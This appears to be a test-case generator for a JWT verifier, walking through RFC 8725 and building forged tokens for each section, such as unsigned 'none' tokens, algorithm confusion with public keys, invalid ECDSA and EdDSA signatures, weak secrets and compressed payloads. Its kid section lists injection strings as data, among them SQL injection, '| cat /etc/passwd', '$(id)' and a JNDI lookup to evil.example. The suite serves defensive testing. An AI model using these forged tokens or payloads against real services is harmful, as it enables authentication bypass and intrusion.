// RFC 8725, JSON Web Token Best Current Practices, section by section: what each section warns of, tried.

import { deflateRawSync } from 'node:zlib';
import { ED, ES, FOREIGN, HS, RFC_TOKENS, RS, SECRET, SERVICES, search } from '../fixture.mjs';
import {
  base64url,
  bytesOfNumber,
  compact,
  ED25519_ORDER,
  ecdsa,
  ed25519,
  hmac,
  littleEndian,
  numberOf,
  P256_FIELD,
  P256_ORDER,
  pss,
  publicHalf,
  publicKey,
  resigned,
  rsa,
} from '../sign.mjs';
import {
  ACCEPTED,
  ALGORITHM,
  AUDIENCE,
  CLAIMS,
  HEADER,
  ISSUER,
  KEY_ID,
  malformed,
  NO_KEY,
  SEGMENTS,
  SIGNATURE,
  TYPE,
} from '../verdicts.mjs';

/** A public key in every spelling that somebody could have taken for a secret. */
function publicTexts(jwk) {
  const key = publicKey(jwk);
  const spki = String(key.export({ type: 'spki', format: 'pem' }));
  const texts = {
    'as PEM': spki,
    'as PEM without its last newline': spki.trimEnd(),
    'as PEM with CRLF': spki.replaceAll('\n', '\r\n'),
    'as DER': key.export({ type: 'spki', format: 'der' }),
    'as a JWK': JSON.stringify(publicHalf(jwk)),
    'as the base64 of its DER': key.export({ type: 'spki', format: 'der' }).toString('base64'),
  };
  if (jwk.kty === 'RSA') {
    texts['as PKCS#1 PEM'] = key.export({ type: 'pkcs1', format: 'pem' });
    texts['as its modulus'] = Buffer.from(jwk.n, 'base64url');
  } else {
    texts['as its coordinates'] = Buffer.from(jwk.x + (jwk.y ?? ''), 'base64url');
  }
  return texts;
}

/** 3.1: the key says which algorithm it is for, not the token. */
export function* section3_1({ claims, hs, rs, es, ed }) {
  for (let bits = 0; bits < 16; bits += 1) {
    const none = [...'none'].map((letter, at) => ((bits >> at) & 1 ? letter.toUpperCase() : letter)).join('');
    yield [`alg ${none}, no signature`, ALGORITHM, compact({ alg: none }, claims(), () => '')];
  }
  for (const alg of ['none ', ' none', 'none\0', 'n\u006fne\u200b', 'ｎｏｎｅ', '', ' ', 'null', 'undefined']) {
    yield [`alg ${JSON.stringify(alg)}`, ALGORITHM, compact({ alg }, claims(), () => '')];
  }
  yield ['alg none, signed all the same', ALGORITHM, hs(claims(), { alg: 'none' })];
  for (const [name, jwk] of [
    ['RSA', RS],
    ['P-256', ES],
    ['Ed25519', ED],
  ]) {
    for (const [form, text] of Object.entries(publicTexts(jwk))) {
      yield [`HS256 with the ${name} key ${form}`, SIGNATURE, compact({ alg: 'HS256' }, claims(), hmac(text))];
    }
    yield [
      `HS256 with the ${name} key as PEM, under its kid`,
      NO_KEY,
      compact({ alg: 'HS256', kid: jwk.kid }, claims(), hmac(publicTexts(jwk)['as PEM'])),
    ];
  }
  const tokens = { HS256: hs, RS256: rs, ES256: es, EdDSA: ed };
  for (const [alg, token] of Object.entries(tokens)) {
    for (const key of [HS, RS, ES, ED].filter((other) => other.alg !== alg)) {
      yield [`${alg} under the kid of a key for ${key.alg}`, NO_KEY, token(claims(), { kid: key.kid })];
      yield [`${alg} signature where the header says ${key.alg}`, SIGNATURE, token(claims(), { alg: key.alg })];
    }
  }
}

/** 3.2: algorithms that no key is for, each genuinely signed where it could be. */
export function* section3_2({ claims }) {
  const token = (alg, signer) => compact({ alg }, claims(), signer);
  for (const [alg, hash] of [
    ['HS384', 'sha384'],
    ['HS512', 'sha512'],
    ['HS1', 'sha1'],
    ['HS256/64', 'sha256'],
  ]) {
    yield [alg, ALGORITHM, token(alg, hmac(SECRET, hash))];
  }
  for (const [alg, hash] of [
    ['RS1', 'sha1'],
    ['RS384', 'sha384'],
    ['RS512', 'sha512'],
  ])
    yield [alg, ALGORITHM, token(alg, rsa(RS, hash))];
  for (const [alg, hash] of [
    ['PS256', 'sha256'],
    ['PS384', 'sha384'],
    ['PS512', 'sha512'],
  ])
    yield [alg, ALGORITHM, token(alg, pss(RS, hash))];
  for (const alg of ['ES384', 'ES512', 'ES256K', 'ESP256']) yield [alg, ALGORITHM, token(alg, ecdsa(ES))];
  for (const alg of ['Ed25519', 'Ed448']) yield [alg, ALGORITHM, token(alg, ed25519(ED))];
  for (const alg of [
    'dir',
    'RSA1_5',
    'RSA-OAEP',
    'A128KW',
    'ECDH-ES',
    'PBES2-HS256+A128KW',
    'ML-DSA-44',
    'HS257',
    'SHA256',
    'HMAC',
  ]) {
    yield [alg, ALGORITHM, token(alg, hmac(SECRET))];
  }
  yield ['RS256 with SHA-1 inside', SIGNATURE, token('RS256', rsa(RS, 'sha1'))];
  yield ['RS256 with SHA-512 inside', SIGNATURE, token('RS256', rsa(RS, 'sha512'))];
  yield ['RS256 with PSS inside', SIGNATURE, token('RS256', pss(RS))];
  yield ['ES256 with SHA-512 inside', SIGNATURE, token('ES256', ecdsa(ES, 'sha512'))];
  yield ['HS256 with SHA-512 inside', SIGNATURE, token('HS256', hmac(SECRET, 'sha512'))];
}

/** 3.3: every cryptographic operation is checked, the inner ones as well: nothing nested is taken. */
export function* section3_3({ claims, hs, rs }) {
  yield ['a token in a token', CLAIMS, hs(hs(), { cty: 'JWT' })];
  yield ['a token of another key in a token', CLAIMS, rs(hs(), { cty: 'JWT' })];
  yield [
    'an unsigned token in a token',
    CLAIMS,
    hs(
      compact({ alg: 'none' }, claims(), () => ''),
      { cty: 'JWT' },
    ),
  ];
  yield ['a quoted token in a token', CLAIMS, hs(JSON.stringify(hs()), { cty: 'JWT' })];
  yield ['an encrypted token', SEGMENTS, RFC_TOKENS['RFC 7516 A.1']];
  yield ['a signature of nothing', SIGNATURE, compact({ alg: 'HS256' }, claims(), () => hmac(SECRET)(''))];
}

/** 3.4: numbers of a signature that are none. */
export function* section3_4({ claims, rs, es, ed }) {
  const psychic = (r, s) =>
    compact({ alg: 'ES256' }, claims(), () => Buffer.concat([bytesOfNumber(r, 32), bytesOfNumber(s, 32)]));
  const numbers = {
    0: 0n,
    1: 1n,
    'n - 1': P256_ORDER - 1n,
    n: P256_ORDER,
    'n + 1': P256_ORDER + 1n,
    p: P256_FIELD,
    '2^256 - 1': 2n ** 256n - 1n,
  };
  for (const [rName, r] of Object.entries(numbers)) {
    for (const [sName, s] of Object.entries(numbers))
      yield [`ES256, r = ${rName}, s = ${sName}`, SIGNATURE, psychic(r, s)];
  }
  const genuine = es();
  const half = (index, number) =>
    resigned(genuine, (signature) =>
      Buffer.from(signature.fill(bytesOfNumber(number, 32), 32 * index, 32 * index + 32)),
    );
  for (const [name, number] of Object.entries(numbers)) {
    yield [`ES256, genuine but for r = ${name}`, SIGNATURE, half(0, number)];
    yield [`ES256, genuine but for s = ${name}`, SIGNATURE, half(1, number)];
  }
  const edwards = (change) => resigned(ed(), (signature) => change(signature.subarray(0, 32), signature.subarray(32)));
  const moved = (times) =>
    edwards((r, s) => Buffer.concat([r, littleEndian(numberOf(Buffer.from(s).reverse()) + times * ED25519_ORDER, 32)]));
  for (const times of [1n, 2n, 8n]) yield [`EdDSA, s + ${times}L`, SIGNATURE, moved(times)];
  yield ['EdDSA, s = 0', SIGNATURE, edwards((r) => Buffer.concat([r, Buffer.alloc(32)]))];
  yield ['EdDSA, s = L', SIGNATURE, edwards((r) => Buffer.concat([r, littleEndian(ED25519_ORDER, 32)]))];
  yield ['EdDSA, all zero', SIGNATURE, edwards(() => Buffer.alloc(64))];
  yield ['EdDSA, R the identity, s = 0', SIGNATURE, edwards(() => Buffer.alloc(64).fill(1, 0, 1))];
  yield ['EdDSA, R no point', SIGNATURE, edwards((_r, s) => Buffer.concat([Buffer.alloc(32).fill(2, 0, 1), s]))];
  yield ['EdDSA, R beyond the field', SIGNATURE, edwards((_r, s) => Buffer.concat([Buffer.alloc(32, 0xff), s]))];
  yield ['EdDSA, the sign of R flipped', SIGNATURE, edwards((r, s) => Buffer.concat([r.with(31, r[31] ^ 0x80), s]))];
  const modulus = numberOf(Buffer.from(RS.n, 'base64url'));
  for (const [name, number] of [
    ['0', 0n],
    ['1', 1n],
    ['n - 1', modulus - 1n],
    ['n', modulus],
    ['2^2048 - 1', 2n ** 2048n - 1n],
  ]) {
    yield [`RS256, s = ${name}`, SIGNATURE, resigned(rs(), () => bytesOfNumber(number, 256))];
  }
  const signatureOf = (token) => numberOf(Buffer.from(token.split('.')[2], 'base64url'));
  const small = search(
    (jti) => rs(claims({ jti })),
    (token) => signatureOf(token) + modulus < 2n ** 2048n,
  );
  yield ['RS256, genuine', ACCEPTED, small];
  yield ['RS256, genuine, s + n', SIGNATURE, resigned(small, () => bytesOfNumber(signatureOf(small) + modulus, 256))];
}

/** 3.5: secrets that a program tries first. */
export function* section3_5({ claims }) {
  const secrets = [
    '',
    '\0',
    ' ',
    'secret',
    'password',
    'changeme',
    'your-256-bit-secret',
    'JWT_SECRET',
    'hs-1',
    'null',
    'undefined',
    HS.k,
  ];
  for (const secret of secrets)
    yield [`secret ${JSON.stringify(secret)}`, SIGNATURE, compact({ alg: 'HS256' }, claims(), hmac(secret))];
  yield ['32 zero bytes', SIGNATURE, compact({ alg: 'HS256' }, claims(), hmac(Buffer.alloc(32)))];
  yield [
    'the secret but for its last byte',
    SIGNATURE,
    compact({ alg: 'HS256' }, claims(), hmac(SECRET.subarray(0, 31))),
  ];
  yield [
    'the secret, a zero byte after it',
    ACCEPTED,
    compact({ alg: 'HS256' }, claims(), hmac(Buffer.concat([SECRET, Buffer.alloc(1)]))),
    {
      note: 'HMAC pads a short key with zeros: RFC 2104. It is the same key.',
    },
  ];
}

/** 3.6: nothing is unpacked. */
export function* section3_6({ claims, hs }) {
  yield ['zip, packed', CLAIMS, hs(deflateRawSync(JSON.stringify(claims())), { zip: 'DEF' })];
  yield [
    'zip, not packed',
    ACCEPTED,
    hs(claims(), { zip: 'DEF' }),
    { note: 'JWS knows no zip, and what is not known is ignored: RFC 7515 section 4.' },
  ];
  yield ['zip, 128 KiB of zeros', CLAIMS, hs(deflateRawSync(Buffer.alloc(2 ** 17)), { zip: 'DEF' })];
}

/** 3.7: UTF-8 and nothing else. */
export function* section3_7({ claims, hs }) {
  const texts = { claims: JSON.stringify(claims()), header: '{"alg":"HS256"}' };
  const encodings = {
    'UTF-16LE': (text) => Buffer.from(text, 'utf16le'),
    'UTF-16BE': (text) => Buffer.from(text, 'utf16le').swap16(),
    'UTF-16 with BOM': (text) => Buffer.from(`\ufeff${text}`, 'utf16le'),
    'UTF-8 with BOM': (text) => Buffer.from(`\ufeff${text}`),
    'UTF-32LE': (text) => Buffer.from([...text].flatMap((letter) => [letter.codePointAt(0), 0, 0, 0])),
    'UTF-7 BOM': (text) => Buffer.from(`+/v8-${text}`),
  };
  const member = (bytes) => (text) =>
    Buffer.concat([Buffer.from(`${text.slice(0, -1)},"x":"`), Buffer.from(bytes), Buffer.from('"}')]);
  encodings['Latin-1'] = member([0xe9]);
  encodings['an overlong slash'] = member([0xc0, 0xaf]);
  encodings['an overlong NUL'] = member([0xc0, 0x80]);
  encodings['a surrogate'] = member([0xed, 0xa0, 0x80]);
  encodings['beyond Unicode'] = member([0xf4, 0x90, 0x80, 0x80]);
  encodings['a cut letter'] = member([0xe2, 0x82]);
  encodings['an escaped lone surrogate'] = member(Buffer.from('\\ud800'));
  for (const [name, encode] of Object.entries(encodings)) {
    yield [`claims: ${name}`, CLAIMS, hs(encode(texts.claims))];
    yield [`header: ${name}`, HEADER, hs(claims(), encode(texts.header))];
  }
  yield ['claims: letters of every length', ACCEPTED, hs(claims({ name: 'aé€😀' }))];
}

/** 3.8: the issuer, compared letter by letter. */
export function* section3_8({ claims, hs }) {
  const { issuer: iss, audience: aud } = SERVICES.strict;
  const strict = { service: 'strict' };
  yield ['the issuer', ACCEPTED, hs(claims({ iss, aud })), strict];
  yield ['no issuer', ISSUER, hs(claims({ aud })), strict];
  const others = [
    `${iss}/`,
    iss.toUpperCase(),
    `${iss} `,
    ` ${iss}`,
    `${iss}\0`,
    `${iss}.evil.example`,
    iss.slice(0, -1),
    '',
    '*',
    '.*',
    iss.replace('e', 'е'),
  ];
  for (const other of others)
    yield [`issuer ${JSON.stringify(other)}`, ISSUER, hs(claims({ iss: other, aud })), strict];
  for (const other of [[iss], { iss }, 1, true])
    yield [`issuer ${JSON.stringify(other)}`, malformed('iss'), hs(claims({ iss: other, aud })), strict];
  yield ['issuer null', ISSUER, hs(claims({ iss: null, aud })), strict];
  yield ['the issuer in the header', ISSUER, hs(claims({ aud }), { iss }), strict];
  for (const sub of ['', 1, ['u'], {}, 'u\0', 'x'.repeat(129)])
    yield [`subject ${JSON.stringify(sub).slice(0, 20)}`, malformed('sub'), hs(claims({ sub }))];
}

/** 3.9: the audience, likewise. */
export function* section3_9({ claims, hs }) {
  const { issuer: iss, audience: aud } = SERVICES.strict;
  const strict = { service: 'strict' };
  const token = (value) => hs(claims({ iss, aud: value }));
  for (const fits of [aud, [aud], ['other', aud], [aud, aud]])
    yield [`audience ${JSON.stringify(fits)}`, ACCEPTED, token(fits), strict];
  yield ['no audience', AUDIENCE, hs(claims({ iss })), strict];
  for (const other of [
    `${aud} `,
    aud.toUpperCase(),
    `${aud},x`,
    `x ${aud}`,
    '',
    '*',
    [],
    ['other'],
    [`${aud}\0`],
    [''],
    aud.slice(0, -1),
    null,
  ]) {
    yield [`audience ${JSON.stringify(other)}`, AUDIENCE, token(other), strict];
  }
  for (const wrong of [1, true, {}, { [aud]: true }, [null], [aud, 1], [[aud]], [{ aud }]]) {
    yield [`audience ${JSON.stringify(wrong)}`, malformed('aud'), token(wrong), strict];
  }
  yield ['audience of the wrong type where none is demanded', malformed('aud'), hs(claims({ aud: {} }))];
}

/** 3.10: what a header says of keys is neither looked up nor fetched nor believed. */
export function* section3_10({ claims, hs, rs, es, ed }) {
  const ids = [
    '../../../../dev/null',
    '/dev/null',
    '..\\..\\windows\\win.ini',
    'file:///dev/null',
    '/proc/sys/kernel/randomize_va_space',
    "' OR '1'='1",
    "x' UNION SELECT 'AA' --",
    '"; DROP TABLE keys; --',
    '$(id)',
    '`id`',
    '| cat /etc/passwd',
    '{{7*7}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an attacker would send
    '${jndi:ldap://evil.example/x}',
    'https://evil.example/key',
    '__proto__',
    'constructor',
    'HS-1',
    'hs-1 ',
    'hs-1\0',
    'hs-1\n',
    'ｈs-1',
    '',
    '0',
    '*',
    'x'.repeat(256),
  ];
  for (const kid of ids) {
    yield [`kid ${JSON.stringify(kid).slice(0, 40)}`, NO_KEY, hs(claims(), { kid })];
    if (kid.includes('dev/null'))
      yield [`kid ${kid}, signed with nothing`, NO_KEY, compact({ alg: 'HS256', kid }, claims(), hmac(''))];
  }
  for (const kid of [null, 1, true, ['hs-1'], { kid: 'hs-1' }, 'x'.repeat(257), 'é'.repeat(129)]) {
    yield [`kid ${JSON.stringify(kid).slice(0, 20)}`, KEY_ID, hs(claims(), { kid })];
  }
  const foreign = { RS256: [FOREIGN.RS, rsa], ES256: [FOREIGN.ES, ecdsa], EdDSA: [FOREIGN.ED, ed25519] };
  const url = 'https://evil.example/keys';
  for (const [alg, [jwk, signer]] of Object.entries(foreign)) {
    const half = publicHalf(jwk);
    for (const [name, header] of Object.entries({
      'an embedded jwk': { jwk: half },
      'an embedded jwk of its kid': { jwk: { ...half, kid: 'x' }, kid: 'x' },
      'a jku': { jku: url },
      'an x5u': { x5u: url },
      'an x5c': { x5c: [base64url(publicKey(jwk).export({ type: 'spki', format: 'der' }))] },
      'an x5t': { x5t: base64url('x'), 'x5t#S256': base64url('x') },
    })) {
      yield [
        `${alg} of another key with ${name}`,
        header.kid ? NO_KEY : SIGNATURE,
        compact({ alg, ...header }, claims(), signer(jwk)),
      ];
    }
  }
  yield [
    'HS256 with an embedded secret',
    SIGNATURE,
    compact({ alg: 'HS256', jwk: FOREIGN.HS }, claims(), hmac(Buffer.from(FOREIGN.HS.k, 'base64url'))),
  ];
  for (const [name, token] of Object.entries({ hs, rs, es, ed })) {
    yield [
      `${name}-1 with a foreign jwk, jku, x5u and x5c`,
      ACCEPTED,
      token(claims(), { jwk: publicHalf(FOREIGN.ES), jku: url, x5u: url, x5c: ['AA'] }),
      {
        note: 'None of them is looked at.',
      },
    ];
    yield [`${name}-1 under its kid`, ACCEPTED, token(claims(), { kid: `${name}-1` })];
    yield [`${name}-1 without a kid`, ACCEPTED, token()];
  }
}

/** 3.11: the type says what the token is. */
export function* section3_11({ claims, hs }) {
  for (const typ of [
    'JWT',
    'jwt',
    'Jwt',
    'at+jwt',
    'AT+JWT',
    'application/jwt',
    'application/at+jwt',
    'Application/AT+JWT',
  ]) {
    yield [`typ ${typ}`, ACCEPTED, hs(claims(), { typ })];
  }
  for (const typ of [
    '',
    ' JWT',
    'JWT ',
    'JWT\0',
    'JWS',
    'JWE',
    'JOSE',
    'JOSE+JSON',
    'text/jwt',
    'application/',
    'application/application/jwt',
    'jwt; charset=utf-8',
    'ＪＷＴ',
  ]) {
    yield [`typ ${JSON.stringify(typ)}`, TYPE, hs(claims(), { typ })];
  }
  for (const typ of [null, 1, true, ['JWT'], {}]) yield [`typ ${JSON.stringify(typ)}`, TYPE, hs(claims(), { typ })];
}

/** 3.12: tokens of other kinds, which the same issuer may sign with the same key. */
export function* section3_12({ claims, hs }) {
  const kinds = [
    'logout+jwt',
    'secevent+jwt',
    'dpop+jwt',
    'token-introspection+jwt',
    'oauth-authz-req+jwt',
    'client-authentication+jwt',
    'kb+jwt',
    'vc+sd-jwt',
    'entity-statement+jwt',
    'passport',
  ];
  for (const typ of kinds) yield [`typ ${typ}`, TYPE, hs(claims(), { typ })];
  yield ['a disclosure after it, as SD-JWT has', SEGMENTS, `${hs()}~WyJzYWx0IiwieCJd~`];
}
